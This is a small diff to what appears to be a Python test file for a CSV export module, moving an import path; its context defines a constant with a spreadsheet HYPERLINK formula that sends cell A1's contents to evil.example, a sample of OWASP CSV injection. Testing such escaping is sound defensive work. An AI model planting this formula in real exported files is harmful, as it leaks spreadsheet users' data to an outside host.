@@ -13,7 +13,7 @@ from typing import Any
 import pytest
 from conftest import TODAY, run_portal, write_portal
 
-from generator.export import csv_cell, to_csv
+from generator.site.export import csv_cell, to_csv
 
 # Cells a spreadsheet runs or reads as formulas (OWASP CSV injection).
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
